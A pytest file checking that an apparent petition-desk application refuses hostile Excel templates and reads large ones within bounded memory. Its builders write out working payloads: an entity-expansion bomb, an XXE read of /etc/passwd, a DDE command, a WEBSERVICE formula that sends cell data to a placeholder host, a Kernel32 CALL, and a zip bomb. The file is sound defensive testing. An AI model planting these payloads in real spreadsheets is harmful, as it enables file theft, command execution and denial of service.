"""Blank forms made to harm: refused with the reason, or read within bounded memory."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from msoffcrypto.format.ooxml import OOXMLFile
from openpyxl import Workbook

from petition_desk.errors import InputError
from petition_desk.exchange.forms.form import read_form
from tests.attack.commands import Office
from tests.exchange.blanks import SAMPLE, furnished

#: A process that reads a blank may not take more than this (a small one takes 50 MB).
MOST_MEGABYTES = 400


def with_part(name: str, content: bytes = b"<x/>") -> bytes:
    """Return the sample with a further part."""
    stream = io.BytesIO(SAMPLE.read_bytes())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(name, content)
    return stream.getvalue()


def with_sheet(change: Callable[[str], str]) -> bytes:
    """Return the sample with its sheet changed as text."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(SAMPLE.read_bytes())) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            content = old.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                content = change(content.decode()).encode()
            new.writestr(entry.filename, content)
    return stream.getvalue()


def total(formula: str) -> bytes:
    return with_sheet(lambda text: text.replace("COUNTA(B5:B9)", formula))


def entities() -> bytes:
    bomb = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "xxxxxxxxxx">{bomb}]>'
    return with_sheet(lambda text: head + text.replace("合计", "&a8;"))


def outside_entity() -> bytes:
    head = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return with_sheet(lambda text: head + text.replace("合计", "&f;"))


def bomb() -> bytes:
    stream = io.BytesIO(SAMPLE.read_bytes())
    with (
        zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/big.bin", "w") as part,
    ):
        for _ in range(120):
            part.write(bytes(2**20))
    return stream.getvalue()


def many_rows() -> bytes:
    row = "".join(f'<c r="{letter}{{0}}" s="3"/>' for letter in "ABCDEFGHIJKL")
    rows = "".join(f'<row r="{n}">{row.format(n)}</row>' for n in range(12, 60_000))
    return with_sheet(lambda text: text.replace("</sheetData>", f"{rows}</sheetData>"))


def far_cell() -> bytes:
    cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return with_sheet(lambda text: text.replace("</sheetData>", f"{cell}</sheetData>"))


def locked() -> bytes:
    stream = io.BytesIO()
    OOXMLFile(io.BytesIO(SAMPLE.read_bytes())).encrypt("kouling-123", stream)
    return stream.getvalue()


def no_head() -> bytes:
    book, stream = Workbook(), io.BytesIO()
    book.active["A1"] = "通知"
    book.save(stream)
    return stream.getvalue()


HOSTILE = {
    "macros": (lambda: with_part("xl/vbaProject.bin"), "宏"),
    "dialog": (lambda: with_part("xl/macrosheets/sheet1.xml"), "宏"),
    "links": (lambda: with_part("xl/externalLinks/externalLink1.xml"), "别的文件"),
    "connection": (lambda: with_part("xl/connections.xml"), "外部的数据"),
    "embedded": (lambda: with_part("xl/embeddings/oleObject1.bin"), "嵌有"),
    "control": (lambda: with_part("xl/activeX/activeX1.xml"), "嵌有"),
    "webservice": (lambda: total('_xlfn.WEBSERVICE("http://x/?q="&amp;C5)'), "向外取数"),
    "dde": (lambda: total("cmd|'/C calc'!A0"), "向外取数"),
    "call": (lambda: total('CALL("Kernel32","Beep","JJJ",1,1)'), "向外取数"),
    "entities": (entities, "损坏"),
    "outside": (outside_entity, "损坏"),
    "bomb": (bomb, "太大|超过|不予打开"),
    "rows": (many_rows, "空行太多"),
    "far": (far_cell, "范围过大"),
    "locked": (locked, "密码"),
    "headless": (no_head, "认不出表头"),
    "text": (lambda: "序号,姓名\n1,张三".encode(), ".xlsx"),
    "empty": (lambda: b"", "空的"),
    "garbled": (lambda: SAMPLE.read_bytes()[:3000], "损坏"),
    "crc": (lambda: SAMPLE.read_bytes().replace(b"\x00\x00\x00", b"\x01\x00\x02"), "损坏|压缩"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_blank_that_could_do_harm_is_refused_with_its_reason(name: str) -> None:
    make, reason = HOSTILE[name]
    with pytest.raises(InputError, match=reason):
        read_form(make(), "空白.xlsx")


def test_a_refused_blank_ends_with_4_and_leaves_nothing(office: Office, tmp_path: Path) -> None:
    blank, out = tmp_path / "空白.xlsx", tmp_path / "out.xlsx"
    blank.write_bytes(HOSTILE["macros"][0]())
    assert "宏" in office.run("export", out, "--template", blank, code=4).err
    assert not out.exists()
    assert list(tmp_path.glob(".petition-desk-*")) == []


def test_no_such_blank_ends_with_4(office: Office, tmp_path: Path) -> None:
    told = office.run("export", tmp_path / "o.xlsx", "--template", tmp_path / "no.xlsx", code=4)
    assert "找不到" in told.err


@pytest.mark.skipif(sys.platform == "win32", reason="the limit on memory is the system's own")
@pytest.mark.parametrize("name", ["bomb", "entities", "rows", "far"])
def test_a_blank_made_to_burst_stays_within_bounded_memory(tmp_path: Path, name: str) -> None:
    blank = tmp_path / "空白.xlsx"
    blank.write_bytes(HOSTILE[name][0]())
    script = (
        "import sys; from pathlib import Path\n"
        "from tests.bench.timing import peak_megabytes\n"
        "from petition_desk.errors import InputError\n"
        "from petition_desk.exchange.forms.form import read_form\n"
        "path = Path(sys.argv[1])\n"
        "try: read_form(path.read_bytes(), path.name)\n"
        "except InputError: pass\n"
        "print(int(peak_megabytes()))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(blank)],
        check=True, capture_output=True, text=True, env={**os.environ, "PYTHONPATH": "."},
    )  # fmt: skip
    assert int(done.stdout) < MOST_MEGABYTES


def test_a_form_that_lies_about_its_sizes_is_damaged_not_believed() -> None:
    content = bytearray(furnished())
    at = content.find(b"PK\x01\x02")
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    with pytest.raises(InputError, match="损坏"):
        read_form(bytes(content), "空白.xlsx")
